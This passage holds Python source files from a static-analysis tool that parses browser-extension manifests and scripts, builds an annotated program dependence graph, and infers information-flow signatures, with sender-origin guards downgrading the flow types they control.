    treat extension reports and single-file reports uniformly. The
    counters additionally record the cross-component shape of the run:
    ``components``, ``channels`` (distinct channels any loop
    dispatched), and ``sender_guards``.

    The pre-analysis (``preanalysis=True``) runs over the union of all
    parsed component files — resolution and pruning are whole-bundle
    (a content script may hold the only reference to a background
    function's property name), so the liveness fixpoint must see every
    file at once.
    """
    from repro.lint.surface import decide_relevance_many

    bundle = source if isinstance(source, ExtensionBundle) else bundle_from_text(source)
    resolved_spec = spec if spec is not None else webext_spec()
    start = time.perf_counter()
    parsed = parse_extension(bundle, recover=recover)
    degradations: list[Degradation] = [
        Degradation(
            kind=(
                FailureKind.UNSUPPORTED_SYNTAX
                if skip.unsupported
                else FailureKind.PARSE_ERROR
            ),
            detail=f"skipped top-level statement in {path}: {skip.render()}",
        )
        for path, skip in parsed.skipped
    ]
    ast_nodes = sum(node_count(program) for program in parsed.parsed)

    pre = None
    if preanalysis:
        from repro.preanalysis import preanalyze

        pre = preanalyze(parsed.parsed, degraded=bool(degradations))

    decision = None
    if prefilter:
        decision = decide_relevance_many(
            parsed.parsed,
            resolved_spec,
            degraded=bool(degradations),
            resolution=pre.resolution if pre is not None else None,
        )
        if not decision.relevant:
            lowered = lower_parsed_extension(parsed)
            after_parse = time.perf_counter()
            detail = InferenceDetail(
                signature=Signature(), provenance={}, source_statements={}
            )
            comparison = None
            if manual is not None:
                comparison = compare(detail.signature, manual, real_extras)
            counters = Counters()
            counters["prefiltered"] = 1
            counters["components"] = len(parsed.component_files)
            if pre is not None:
                counters.update(pre.counters)
            return VettingReport(
                program=lowered.program,
                result=None,
                pdg=None,
                detail=detail,
                ast_nodes=ast_nodes,
                comparison=comparison,
                phase_times=PhaseTimes(p1=after_parse - start, p2=0.0, p3=0.0),
                counters=counters,
                degradations=(),
                prefiltered=True,
                prefilter_decision=decision,
                preanalysis=pre,
            )

    # Lower the pruned programs when pruning fired; bookkeeping (the
    # ``parsed`` ASTs, ``ast_nodes``) stays on the originals.
    analysis_programs = (
        pre.programs if pre is not None and pre.prune.pruned_nodes else None
    )
    lowered = lower_parsed_extension(parsed, programs=analysis_programs)

    result = analyze(
        lowered.program, WebExtEnvironment(), k=k, budget=budget, salvage=True
    )
    degradations.extend(result.degradations)
    after_p1 = time.perf_counter()
    pdg = build_pdg(result)
    after_p2 = time.perf_counter()
    detail = infer_detail(result, pdg, resolved_spec)
    guards = find_sender_guards(result, pdg)
    detail = downgrade_guarded(detail, guards)
    if degradations:
        detail = widen_detail(detail, resolved_spec)
    after_p3 = time.perf_counter()
    comparison = None
    if manual is not None:
        comparison = compare(detail.signature, manual, real_extras)
    counters = Counters(result.counters)
    counters["pdg_edges"] = len(pdg.edges)
    counters["pdg_cyclic_statements"] = len(pdg.cyclic)
    counters["signature_entries"] = len(detail.signature.entries)
    counters["components"] = len(parsed.component_files)
    counters["channels"] = len(
        {channel for channels in result.loop_channels.values() for channel in channels}
    )
    counters["sender_guards"] = len(guards.branches)
    if degradations:
        counters["degradations"] = len(degradations)
    if pre is not None:
        counters.update(pre.counters)
    return VettingReport(
        program=lowered.program,
        result=result,
        pdg=pdg,
        detail=detail,
        ast_nodes=ast_nodes,
        comparison=comparison,
        unknown_calls=result.unknown_callees,
        phase_times=PhaseTimes(
            p1=after_p1 - start,
            p2=after_p2 - after_p1,
            p3=after_p3 - after_p2,
        ),
        counters=counters,
        degradations=tuple(degradations),
        prefilter_decision=decision,
        preanalysis=pre,
    )
