"""WebExtensions front end: manifest-driven multi-file extensions.

The legacy corpus is single-file Firefox-style addons; modern Chrome /
WebExtensions are *directories*: a ``manifest.json`` names components
(content scripts, a background script or service worker) that run in
separate JavaScript worlds and talk through ``chrome.runtime``
message-passing. This package assembles such a directory into one
:class:`~repro.ir.nodes.ProgramIR`:

- :mod:`repro.webext.manifest` — the manifest model;
- :mod:`repro.webext.loader` — the extension *bundle* (all files as one
  deterministic text blob, so the batch/diffvet/service paths can carry
  an extension exactly like a single-file source string);
- :mod:`repro.webext.lowering` — one IR function per component plus one
  :class:`~repro.ir.nodes.EventLoopStmt` per component, chained into a
  single cycle so abstract message channels connect the components;
- :mod:`repro.webext.guards` — sender-origin guard detection and the
  paper-style conditional-flow downgrade;
- :mod:`repro.webext.pipeline` — the full vetting pipeline for bundles
  (what :func:`repro.api.vet` delegates to).
"""

from repro.webext.loader import (
    ExtensionBundle,
    bundle_from_dir,
    bundle_from_text,
    is_bundle_text,
    load_source,
)
from repro.webext.lowering import LoweredExtension, lower_extension
from repro.webext.manifest import ContentScript, ExtensionManifest, ManifestError

__all__ = [
    "ContentScript",
    "ExtensionBundle",
    "ExtensionManifest",
    "LoweredExtension",
    "ManifestError",
    "bundle_from_dir",
    "bundle_from_text",
    "is_bundle_text",
    "load_source",
    "lower_extension",
]
