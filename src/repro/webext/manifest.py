"""The ``manifest.json`` model.

Only the manifest surface the analysis consumes is modeled: which
scripts form which component, what permissions are declared (for the
over-permission lint), and the match patterns (for the wildcard-exposure
lint). Unknown keys are ignored — real manifests carry plenty of
irrelevant metadata.
"""

from __future__ import annotations

import json
from dataclasses import dataclass


class ManifestError(ValueError):
    """manifest.json is missing, unparseable, or structurally invalid."""


@dataclass(frozen=True)
class ContentScript:
    """One ``content_scripts`` entry: which pages, which files."""

    matches: tuple[str, ...] = ()
    js: tuple[str, ...] = ()


@dataclass(frozen=True)
class ExtensionManifest:
    """The parsed manifest (the analysis-relevant subset)."""

    name: str = "<extension>"
    version: str = "0"
    manifest_version: int = 3
    permissions: tuple[str, ...] = ()
    host_permissions: tuple[str, ...] = ()
    #: Background scripts: MV2 ``background.scripts`` or the MV3
    #: ``background.service_worker`` (a one-element tuple).
    background_scripts: tuple[str, ...] = ()
    content_scripts: tuple[ContentScript, ...] = ()
    #: ``externally_connectable.matches`` — pages allowed to message the
    #: extension directly.
    externally_connectable: tuple[str, ...] = ()

    @classmethod
    def from_text(cls, text: str) -> "ExtensionManifest":
        try:
            raw = json.loads(text)
        except json.JSONDecodeError as error:
            raise ManifestError(f"manifest.json is not valid JSON: {error}") from error
        if not isinstance(raw, dict):
            raise ManifestError("manifest.json must be a JSON object")

        background = raw.get("background", {})
        background_scripts: tuple[str, ...] = ()
        if isinstance(background, dict):
            worker = background.get("service_worker")
            if isinstance(worker, str):
                background_scripts = (worker,)
            else:
                background_scripts = _str_tuple(
                    background.get("scripts", []), "background.scripts"
                )
        elif background:
            raise ManifestError("manifest 'background' must be an object")

        content_scripts: list[ContentScript] = []
        raw_content = raw.get("content_scripts", [])
        if not isinstance(raw_content, list):
            raise ManifestError("manifest 'content_scripts' must be a list")
        for index, entry in enumerate(raw_content):
            if not isinstance(entry, dict):
                raise ManifestError(f"content_scripts[{index}] must be an object")
            content_scripts.append(
                ContentScript(
                    matches=_str_tuple(
                        entry.get("matches", []), f"content_scripts[{index}].matches"
                    ),
                    js=_str_tuple(
                        entry.get("js", []), f"content_scripts[{index}].js"
                    ),
                )
            )

        connectable = raw.get("externally_connectable", {})
        externally_connectable: tuple[str, ...] = ()
        if isinstance(connectable, dict):
            externally_connectable = _str_tuple(
                connectable.get("matches", []), "externally_connectable.matches"
            )

        manifest_version = raw.get("manifest_version", 3)
        if not isinstance(manifest_version, int):
            raise ManifestError("manifest_version must be an integer")

        return cls(
            name=str(raw.get("name", "<extension>")),
            version=str(raw.get("version", "0")),
            manifest_version=manifest_version,
            permissions=_str_tuple(raw.get("permissions", []), "permissions"),
            host_permissions=_str_tuple(
                raw.get("host_permissions", []), "host_permissions"
            ),
            background_scripts=background_scripts,
            content_scripts=tuple(content_scripts),
            externally_connectable=externally_connectable,
        )

    def script_files(self) -> tuple[str, ...]:
        """Every file any component references, in component order."""
        files: list[str] = list(self.background_scripts)
        for entry in self.content_scripts:
            files.extend(entry.js)
        return tuple(files)


def _str_tuple(raw: object, where: str) -> tuple[str, ...]:
    if not isinstance(raw, list) or not all(isinstance(item, str) for item in raw):
        raise ManifestError(f"manifest '{where}' must be a list of strings")
    return tuple(raw)
