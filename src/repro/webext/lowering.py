"""Lowering an extension bundle to one :class:`ProgramIR`.

Shape of the lowered program (DESIGN.md §5h):

- every component (background, each content-script group) becomes its
  own function, so ``var`` declarations stay world-local — matching the
  isolated-worlds semantics of WebExtensions. Assignments to undeclared
  names still land in the shared global scope; that conflates the
  components' globals, a sound over-approximation that is documented
  rather than fixed (components cannot *actually* share globals, so any
  flow it adds is spurious but never hides a real one);
- ``<main>`` creates a closure for each component and calls it once
  (top-level evaluation), then runs one :class:`EventLoopStmt` *per
  component*, tagged with the component's name;
- the per-component loops are chained into a single SEQ cycle
  (loop₁ → loop₂ → … → loop₁). Message dispatch is driven by the
  interpreter's channel machinery, but the *cycle* is what makes every
  channel write ICFG-reachable from every loop — the data-dependence
  pass is reaching-definitions over the ICFG, so without the cycle a
  background→content response edge would be silently dropped. The cycle
  also keeps every handler body inside a CFG cycle, so control
  dependences out of handlers classify as amplified (``local^amp``),
  exactly like the single-loop case.

Files within one component are concatenated at the parsed-statement
level; their line numbers collide (a witness line may be ambiguous
between files of the same component), which the component tag in
witnesses mitigates.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.ir.lower import Lowerer, _FunctionLowerer
from repro.ir.nodes import (
    CallStmt,
    ClosureStmt,
    EdgeKind,
    EventLoopStmt,
    ProgramIR,
)
from repro.js import ast
from repro.js.errors import SourcePosition
from repro.js.parser import SkippedStatement, parse, parse_with_recovery
from repro.webext.loader import ExtensionBundle


@dataclass
class ParsedExtension:
    """All components of a bundle parsed, before lowering.

    Splitting parse from lowering lets the pre-analysis run over the
    parsed file ASTs (and, when pruning fires, substitute pruned
    programs) while the prefilter and ``ast_nodes`` bookkeeping keep
    seeing the originals.
    """

    #: component name -> file paths that formed it, in order.
    component_files: dict[str, tuple[str, ...]] = field(default_factory=dict)
    #: Every parsed file AST (manifest order).
    parsed: tuple[ast.Program, ...] = ()
    #: Component name of each entry of ``parsed``, parallel to it.
    owners: tuple[str, ...] = ()
    #: Component names in manifest order (including file-less ones).
    order: tuple[str, ...] = ()
    #: ``(path, skipped)`` parse-recovery skips (empty unless recover).
    skipped: tuple[tuple[str, SkippedStatement], ...] = ()


@dataclass
class LoweredExtension:
    """The lowered program plus front-end bookkeeping."""

    program: ProgramIR
    #: component name -> file paths that formed it, in order.
    component_files: dict[str, tuple[str, ...]] = field(default_factory=dict)
    #: Every parsed file AST (manifest order) — the prefilter unions
    #: their surfaces.
    parsed: tuple[ast.Program, ...] = ()
    #: ``(path, skipped)`` parse-recovery skips (empty unless recover).
    skipped: tuple[tuple[str, SkippedStatement], ...] = ()


def parse_extension(
    bundle: ExtensionBundle, recover: bool = False
) -> ParsedExtension:
    """Parse every component file of ``bundle``, keeping manifest order."""
    component_files: dict[str, tuple[str, ...]] = {}
    parsed: list[ast.Program] = []
    owners: list[str] = []
    order: list[str] = []
    skipped: list[tuple[str, SkippedStatement]] = []

    for component in bundle.components():
        order.append(component.name)
        for path, source in component.files:
            if recover:
                program, skips = parse_with_recovery(source, filename=path)
                skipped.extend((path, skip) for skip in skips)
            else:
                program = parse(source, filename=path)
            parsed.append(program)
            owners.append(component.name)
        component_files[component.name] = tuple(
            path for path, _ in component.files
        )

    return ParsedExtension(
        component_files=component_files,
        parsed=tuple(parsed),
        owners=tuple(owners),
        order=tuple(order),
        skipped=tuple(skipped),
    )


def lower_parsed_extension(
    parsed_extension: ParsedExtension,
    programs: tuple[ast.Program, ...] | None = None,
) -> LoweredExtension:
    """Lower an already-parsed bundle into one program.

    ``programs``, when given, substitutes the statement source per file
    (parallel to ``parsed_extension.parsed`` — the pruned programs of
    :func:`repro.preanalysis.preanalyze`). Bookkeeping fields
    (``parsed``, ``component_files``, ``skipped``) always describe the
    *original* parse.
    """
    source_programs = (
        programs if programs is not None else parsed_extension.parsed
    )
    component_sources: list[tuple[str, list[ast.Statement], SourcePosition]] = []
    by_component: dict[str, list[ast.Program]] = {
        name: [] for name in parsed_extension.order
    }
    for owner, program in zip(parsed_extension.owners, source_programs):
        by_component[owner].append(program)
    for name in parsed_extension.order:
        statements: list[ast.Statement] = []
        position = SourcePosition(0, 0)
        for index, program in enumerate(by_component[name]):
            if index == 0:
                position = program.position
            statements.extend(program.body)
        component_sources.append((name, statements, position))

    lowerer = Lowerer()
    main = lowerer._new_function("<main>", params=[], parent=None)
    body = _FunctionLowerer(lowerer, main, chain=[main], top_level=True)
    origin = SourcePosition(0, 0)
    body.lower_body([], position=origin)

    components: dict[int, str] = {}
    for name, statements, position in component_sources:
        function = lowerer._new_function(f"<{name}>", params=[], parent=main.fid)
        function.locals.add("this")
        # chain excludes <main>: component free names resolve to globals,
        # never to <main>'s temporaries.
        sub = _FunctionLowerer(lowerer, function, chain=[function])
        sub.lower_body(statements, position=position)
        sub.finish(position=position)
        components[function.fid] = name

        # <main> evaluates the component's top level once.
        closure = body.temp()
        body.emit(
            ClosureStmt(target=closure, function_id=function.fid, position=origin)
        )
        body.emit(
            CallStmt(
                target=body.temp(), callee=closure, this=None, args=[],
                position=origin,
            )
        )

    loops = [
        body.emit(EventLoopStmt(component=name, position=origin))
        for name, _, _ in component_sources
    ]
    if not loops:
        # Degenerate extension (no scripts): keep the single generic loop
        # so the program shape matches single-file addons.
        loops = [body.emit(EventLoopStmt(position=origin))]
    # emit() chained loop_i -> loop_{i+1}; close the cycle explicitly.
    # (With one loop this is the familiar self-edge.)
    loops[-1].add_edge(loops[0].sid, EdgeKind.SEQ)
    body.finish(position=origin)

    program = ProgramIR(
        functions=lowerer.functions,
        stmts=lowerer.stmts,
        owner=lowerer.owner,
        global_names=lowerer.global_names,
        components=components,
    )
    return LoweredExtension(
        program=program,
        component_files=dict(parsed_extension.component_files),
        parsed=parsed_extension.parsed,
        skipped=parsed_extension.skipped,
    )


def lower_extension(
    bundle: ExtensionBundle, recover: bool = False
) -> LoweredExtension:
    """Assemble and lower all components of ``bundle`` into one program."""
    return lower_parsed_extension(parse_extension(bundle, recover=recover))
