"""Sender-origin guard detection and conditional-flow downgrade.

The paper's Figure 4 lattice distinguishes *unconditional* flows from
flows that only happen under a condition the addon checks first: a
``url -type1-> send`` becomes ``url -type3-> send`` when the send is
control-dependent on a branch. For WebExtensions the security-relevant
instance is the *sender guard*: an ``onMessage`` handler that compares
``sender.url`` / ``sender.origin`` / ``sender.id`` against a constant
before touching a privileged API. DoubleX and Kim & Lee both treat the
presence of such a check as the line between an exploitable message
flow and a (conditionally) benign one.

The inference alone cannot see this: the PDG's *data* path from a
privileged source (say ``chrome.cookies.getAll``) to the network sink
bypasses the branch entirely, so the flow stays at its unguarded type.
This module is the post-pass that restores the paper's conditional-flow
rule:

1. :func:`find_sender_guards` locates branch statements whose condition
   backward-slices (over data edges) to a property read of
   ``url``/``origin``/``id`` on the abstract sender object (heap native
   ``ext-sender``) *and* whose slice contains a comparison — a
   ``==``-family binop against a concrete string, or a call-prep load of
   a string predicate (``startsWith``, ``indexOf``, ...). Reading the
   sender without comparing it (e.g. logging ``sender.url``) is not a
   guard.
2. The *guarded region* is the forward closure of the guard branches
   over **all** PDG edges. Control edges alone would miss sinks reached
   across a channel dispatch (branch →ctrl→ ``getAll`` →data→ loop
   →ctrl→ callback body →...→ ``fetch``): the hop from the API call to
   its callback is a data edge through the channel slot. Closing over
   every edge over-approximates "executes only if the guard passed" —
   that direction only downgrades *more* flows toward the guarded
   (weaker, less alarming... but still reported) types, and a flow
   whose sink has any unguarded witness keeps its strong type, so no
   unguarded flow is ever hidden.
3. :func:`downgrade_guarded` weakens every flow entry whose sink
   statements *all* lie in the guarded region by
   ``extend(type, local^amp)`` — exactly the adjustment a conditional
   edge on the witness path would have forced — then re-reduces each
   (source, sink, domain) group to its flow-type antichain.

Monotonicity: ``extend`` never strengthens, so inserting a guard can
only move a signature down the lattice — the property the generated
message-extension tests assert.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.interpreter import AnalysisResult
from repro.pdg.annotations import Annotation
from repro.pdg.graph import PDG
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowType, FlowTypeLattice
from repro.signatures.inference import InferenceDetail
from repro.signatures.signature import Entry, FlowEntry, Signature
from repro.ir.nodes import AssignStmt, BinOpRhs, BranchStmt, LoadPropStmt

#: Sender properties whose comparison constitutes an origin check.
SENDER_PROPS = frozenset({"url", "origin", "id"})

#: String predicates that compare rather than merely read.
COMPARISON_METHODS = frozenset(
    {"startsWith", "endsWith", "indexOf", "includes", "test", "match"}
)

_COMPARISON_OPS = frozenset({"==", "===", "!=", "!=="})

_ALL_ANNOTATIONS = frozenset(Annotation)

#: Backward-slice depth bound: a guard condition is a short chain of
#: loads/compares/boolean ops away from the branch; deep slices stop
#: resembling "the branch tests the sender".
_SLICE_DEPTH = 8


@dataclass(frozen=True)
class GuardReport:
    """Where the sender guards are and what they dominate."""

    #: BranchStmt sids recognized as sender-origin guards.
    branches: frozenset[int]
    #: Forward PDG closure of the guard branches (see module docstring).
    guarded: frozenset[int]

    @property
    def any(self) -> bool:
        return bool(self.branches)


def find_sender_guards(result: AnalysisResult, pdg: PDG) -> GuardReport:
    """Detect sender-origin guard branches and their guarded region."""
    branches: set[int] = set()
    for sid, _context in result.nodes_of_type(BranchStmt):
        if sid in branches:
            continue
        if _condition_tests_sender(result, pdg, sid):
            branches.add(sid)
    if not branches:
        return GuardReport(branches=frozenset(), guarded=frozenset())
    guarded = pdg.reachable_from(branches, _ALL_ANNOTATIONS) - branches
    return GuardReport(branches=frozenset(branches), guarded=frozenset(guarded))


def _condition_tests_sender(result: AnalysisResult, pdg: PDG, branch_sid: int) -> bool:
    """Bounded backward slice of the branch condition over data edges:
    true iff the slice both reads a sender property and compares it."""
    saw_sender = False
    saw_comparison = False
    seen = {branch_sid}
    frontier = [branch_sid]
    for _depth in range(_SLICE_DEPTH):
        if not frontier or (saw_sender and saw_comparison):
            break
        next_frontier: list[int] = []
        for sid in frontier:
            for source, annotations in pdg.predecessors(sid):
                if source in seen:
                    continue
                if not any(annotation.is_data for annotation in annotations):
                    continue
                seen.add(source)
                next_frontier.append(source)
                saw_sender = saw_sender or _is_sender_load(result, source)
                saw_comparison = saw_comparison or _is_comparison(result, source)
        frontier = next_frontier
    return saw_sender and saw_comparison


def _is_sender_load(result: AnalysisResult, sid: int) -> bool:
    stmt = result.program.stmts[sid]
    if not isinstance(stmt, LoadPropStmt):
        return False
    name = result.atom_value_joined(sid, stmt.prop).to_property_name()
    if not any(name.admits(prop) for prop in SENDER_PROPS):
        return False
    base = result.atom_value_joined(sid, stmt.obj)
    for context in result.contexts(sid):
        state = result.states.get((sid, context))
        if state is None:
            continue
        for address in base.addresses:
            if (
                state.heap.contains(address)
                and state.heap.get(address).native == "ext-sender"
            ):
                return True
    return False


def _is_comparison(result: AnalysisResult, sid: int) -> bool:
    stmt = result.program.stmts[sid]
    if isinstance(stmt, AssignStmt) and isinstance(stmt.rhs, BinOpRhs):
        if stmt.rhs.operator not in _COMPARISON_OPS:
            return False
        # Comparing against *something concrete*: a guard pins the
        # sender to a known origin, it doesn't compare two unknowns.
        for atom in (stmt.rhs.left, stmt.rhs.right):
            value = result.atom_value_joined(sid, atom)
            if value.string.concrete() is not None:
                return True
        return False
    if isinstance(stmt, LoadPropStmt):
        name = result.atom_value_joined(sid, stmt.prop).to_property_name()
        return any(name.admits(method) for method in COMPARISON_METHODS)
    return False


def downgrade_guarded(
    detail: InferenceDetail,
    guards: GuardReport,
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> InferenceDetail:
    """Weaken flow entries whose sinks are all inside the guarded region.

    Returns a new :class:`InferenceDetail`; the input is not modified.
    With no guards (or nothing to weaken) the input is returned as-is.
    """
    if not guards.any:
        return detail

    changed = False
    # (source, sink, domain) -> {flow_type: sink sids}, rebuilt with the
    # guard-adjusted types so the antichain reduction can re-run.
    grouped: dict[tuple[str, str, object], dict[FlowType, set[int]]] = {}
    untouched: dict[Entry, set[int]] = {}
    for entry, sids in detail.provenance.items():
        if not isinstance(entry, FlowEntry):
            untouched[entry] = sids
            continue
        flow_type = entry.flow_type
        if sids and sids <= guards.guarded:
            weakened = lattice.extend(flow_type, Annotation.LOCAL_AMP)
            if weakened is not flow_type:
                flow_type = weakened
                changed = True
        key = (entry.source, entry.sink, entry.domain)
        grouped.setdefault(key, {}).setdefault(flow_type, set()).update(sids)
    if not changed:
        return detail

    provenance: dict[Entry, set[int]] = dict(untouched)
    for (source, sink, domain), by_type in grouped.items():
        for flow_type in lattice.max(set(by_type)):
            entry = FlowEntry(source, flow_type, sink, domain)
            provenance.setdefault(entry, set()).update(by_type[flow_type])
    return InferenceDetail(
        signature=Signature(entries=frozenset(provenance)),
        provenance=provenance,
        source_statements=detail.source_statements,
    )
