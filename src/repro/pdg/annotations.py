"""The PDG edge annotation grammar of Section 3.1.

::

    ann     ::= data | control
    data    ::= datastrong | dataweak
    control ::= ctrl | ctrl^amp
    ctrl    ::= local | nonlocexp | nonlocimp

Eight concrete annotations. The helpers classify and amplify them; the
flow-type lattice of Section 4 (:mod:`repro.signatures.flowtypes`) is
keyed by these values.
"""

from __future__ import annotations

import enum


class Annotation(enum.Enum):
    """One PDG edge annotation."""

    DATA_STRONG = "datastrong"
    DATA_WEAK = "dataweak"
    LOCAL = "local"
    LOCAL_AMP = "local^amp"
    NONLOC_EXP = "nonlocexp"
    NONLOC_EXP_AMP = "nonlocexp^amp"
    NONLOC_IMP = "nonlocimp"
    NONLOC_IMP_AMP = "nonlocimp^amp"

    @property
    def is_data(self) -> bool:
        return self in (Annotation.DATA_STRONG, Annotation.DATA_WEAK)

    @property
    def is_control(self) -> bool:
        return not self.is_data

    @property
    def is_amplified(self) -> bool:
        return self in _AMPLIFIED

    def amplified(self) -> "Annotation":
        """The ``ctrl^amp`` version of a control annotation (stage 4 of
        the CDG construction). Data annotations are unaffected."""
        return _AMPLIFY.get(self, self)

    def __str__(self) -> str:
        return self.value


_AMPLIFY = {
    Annotation.LOCAL: Annotation.LOCAL_AMP,
    Annotation.NONLOC_EXP: Annotation.NONLOC_EXP_AMP,
    Annotation.NONLOC_IMP: Annotation.NONLOC_IMP_AMP,
}

_AMPLIFIED = frozenset(_AMPLIFY.values())

#: The control annotations of the three CDG stages, unamplified.
STAGE_ANNOTATIONS = (
    Annotation.LOCAL,
    Annotation.NONLOC_EXP,
    Annotation.NONLOC_IMP,
)
