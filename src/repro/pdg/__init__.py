"""The annotated Program Dependence Graph (Section 3 of the paper)."""

from repro.pdg.annotations import Annotation
from repro.pdg.cdg import CDGResult, build_cdg
from repro.pdg.ddg import DDGResult, build_ddg
from repro.pdg.graph import PDG, build_pdg
from repro.pdg.icfg import ICFG, build_icfg, cyclic_statements
from repro.pdg.postdom import (
    Digraph,
    control_dependence,
    immediate_dominators,
)
from repro.pdg.slicing import (
    DATA_ONLY,
    backward_slice,
    backward_slice_of_line,
    forward_slice,
    forward_slice_of_line,
)

__all__ = [
    "Annotation",
    "PDG",
    "build_pdg",
    "build_ddg",
    "DDGResult",
    "build_cdg",
    "CDGResult",
    "ICFG",
    "build_icfg",
    "cyclic_statements",
    "Digraph",
    "control_dependence",
    "immediate_dominators",
    "backward_slice",
    "forward_slice",
    "backward_slice_of_line",
    "forward_slice_of_line",
    "DATA_ONLY",
]
