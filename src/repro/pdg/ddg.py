"""The annotated data dependence graph (Section 3.2).

The paper's definitions, restated operationally:

- ``v1 --datastrong--> v2`` iff v1 writes a location, v2 *definitely*
  reads that exact location (singleton, exact property name, strong on
  both sides), and on *no* CFG path between them could the value have
  been overwritten;
- ``v1 --dataweak--> v2`` iff v2 *possibly* reads what v1 wrote and on at
  least one path the value survives (only weak overwrites in between).

We compute this with a reaching-definitions analysis over the
context-sensitive ICFG where every flowing definition carries two bits:

- ``reaches`` — the value may survive to this point on some path (a
  *strong exact* overwrite clears it on that path: the value is gone);
- ``clean`` — *no* path from the definition to this point contains any
  overlapping write at all. Note the paper's datastrong condition
  quantifies over **all** CFG paths ("no statement v3 along any path"),
  so even a path on which the value was strongly killed demotes the
  surviving copies to weak; this is why killed definitions keep flowing
  with ``reaches=False, clean=False`` instead of being dropped.

GEN enters as ``(reaches=True, clean=True)``; joins OR the reaches bits
and AND the clean bits. At a use, a definition with ``reaches`` yields an
edge: ``datastrong`` when write and read are both strong, the locations
agree exactly, and ``clean`` holds; ``dataweak`` otherwise.
Statement-level edges are the projection over contexts, with
``datastrong`` only if every context instance is strong (the paper's
"definitely" quantifies over all executions).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.interpreter import AnalysisResult
from repro.analysis.readwrite import PropAccess, ReadWriteSets, RWSet
from repro.domains.state import VarKey
from repro.pdg.annotations import Annotation
from repro.pdg.icfg import ICFG, Node

#: A definition: the defining ICFG node plus the location it writes.
#: Locations: ("var", scope, name) or ("prop", address, Prefix).
DefLocation = tuple
Definition = tuple[Node, DefLocation]


@dataclass
class DDGResult:
    """Statement-level data dependence edges."""

    edges: dict[tuple[int, int], Annotation]

    def annotation(self, source: int, target: int) -> Annotation | None:
        return self.edges.get((source, target))


def _definitions_of(node: Node, rw: RWSet) -> list[tuple[DefLocation, bool]]:
    """(location, strong) pairs this node writes."""
    out: list[tuple[DefLocation, bool]] = []
    for key, strong in rw.write_vars.items():
        out.append((("var", key[0], key[1]), strong))
    for access in rw.write_props:
        out.append((("prop", access.address, access.name), access.strong))
    return out


def _uses_of(rw: RWSet) -> list[tuple[DefLocation, bool]]:
    out: list[tuple[DefLocation, bool]] = []
    for key, strong in rw.read_vars.items():
        out.append((("var", key[0], key[1]), strong))
    for access in rw.read_props:
        out.append((("prop", access.address, access.name), access.strong))
    return out


def _locations_overlap(write: DefLocation, read: DefLocation) -> bool:
    if write[0] != read[0]:
        return False
    if write[0] == "var":
        return write[1] == read[1] and write[2] == read[2]
    # Properties: same address and non-bottom name meet (the ⋒ operator).
    if write[1] != read[1]:
        return False
    return write[2].overlaps(read[2])


def _locations_exact_match(write: DefLocation, read: DefLocation) -> bool:
    """The singleton-intersection condition for datastrong."""
    if write[0] != read[0] or write[0] == "var":
        return _locations_overlap(write, read)
    return (
        write[1] == read[1]
        and write[2].concrete() is not None
        and write[2] == read[2]
    )


def _bucket_of(location: DefLocation):
    """Coarse index so overlap checks only scan plausible candidates:
    vars can only overlap the identical key; props can only overlap
    same-address props."""
    if location[0] == "var":
        return location
    return ("prop", location[1])


def build_ddg(
    result: AnalysisResult, icfg: ICFG, rw_sets: ReadWriteSets
) -> DDGResult:
    """Run the reaching-definitions fixpoint and project edges.

    The fixpoint is bit-packed: every definition instance gets a bit
    position, each node's facts are two Python ints (``reach``: the value
    may survive to here on some path; ``taint``: some path from the
    definition to here contains an overlapping write), and joins are
    bitwise ORs. Both bits are monotone per instance, and a statement
    re-executing re-GENs its own definitions (reach set, taint cleared) —
    the statement-instance semantics discussed in the module docstring.
    A definition yields an edge at a use iff its reach bit is set;
    the edge is datastrong iff additionally its taint bit is clear and
    the write/read/location strength conditions hold.
    """
    nodes = icfg.nodes

    # ------------------------------------------------------------------
    # Enumerate definitions: bit index per (node, location).
    def_nodes: list[Node] = []
    def_locations: list[DefLocation] = []
    def_strong: list[bool] = []
    gen_mask: dict[Node, int] = {}
    defs_by_bucket: dict[object, list[int]] = {}

    for node in nodes:
        rw = rw_sets.of(node[0], node[1])
        mask = 0
        for location, strong in _definitions_of(node, rw):
            index = len(def_nodes)
            def_nodes.append(node)
            def_locations.append(location)
            def_strong.append(strong)
            mask |= 1 << index
            defs_by_bucket.setdefault(_bucket_of(location), []).append(index)
        if mask:
            gen_mask[node] = mask

    # Bits of all defs generated by any context of a given statement, so
    # the same-statement supersede rule can exclude them from kill/taint.
    sid_mask: dict[int, int] = {}
    for index, node in enumerate(def_nodes):
        sid_mask[node[0]] = sid_mask.get(node[0], 0) | (1 << index)

    # ------------------------------------------------------------------
    # Per-node kill and taint masks, from the node's writes.
    kill_mask: dict[Node, int] = {}
    taint_mask: dict[Node, int] = {}
    for node in nodes:
        rw = rw_sets.of(node[0], node[1])
        writes = _definitions_of(node, rw)
        if not writes:
            continue
        kills = 0
        taints = 0
        for location, strong in writes:
            exact = location[0] == "var" or location[2].concrete() is not None
            for index in defs_by_bucket.get(_bucket_of(location), ()):
                other = def_locations[index]
                if not _locations_overlap(other, location):
                    continue
                taints |= 1 << index
                if (
                    strong
                    and exact
                    and _locations_exact_match(other, location)
                    and _locations_exact_match(location, other)
                ):
                    kills |= 1 << index
        own = sid_mask.get(node[0], 0)
        kills &= ~own
        taints &= ~own
        if kills:
            kill_mask[node] = kills
        if taints:
            taint_mask[node] = taints

    # ------------------------------------------------------------------
    # Fixpoint: facts at node entry as (reach, taint) int pair.
    import heapq

    reach_in: dict[Node, int] = {node: 0 for node in nodes}
    taint_in: dict[Node, int] = {node: 0 for node in nodes}
    worklist = list(nodes)
    heapq.heapify(worklist)
    queued = set(nodes)
    while worklist:
        node = heapq.heappop(worklist)
        queued.discard(node)
        reach = reach_in[node]
        taint = taint_in[node]
        gen = gen_mask.get(node, 0)
        if gen or node in kill_mask or node in taint_mask:
            present = reach | taint
            taint = taint | (taint_mask.get(node, 0) & present)
            reach = reach & ~kill_mask.get(node, 0)
            # Re-GEN own definitions: pristine again.
            reach |= gen
            taint &= ~gen
        for successor in icfg.successors(node):
            new_reach = reach_in[successor] | reach
            new_taint = taint_in[successor] | taint
            if new_reach != reach_in[successor] or new_taint != taint_in[successor]:
                reach_in[successor] = new_reach
                taint_in[successor] = new_taint
                if successor not in queued:
                    queued.add(successor)
                    heapq.heappush(worklist, successor)

    # ------------------------------------------------------------------
    # Project edges: instance level first, then statement level.
    strong_pairs: set[tuple[int, int]] = set()
    weak_pairs: set[tuple[int, int]] = set()
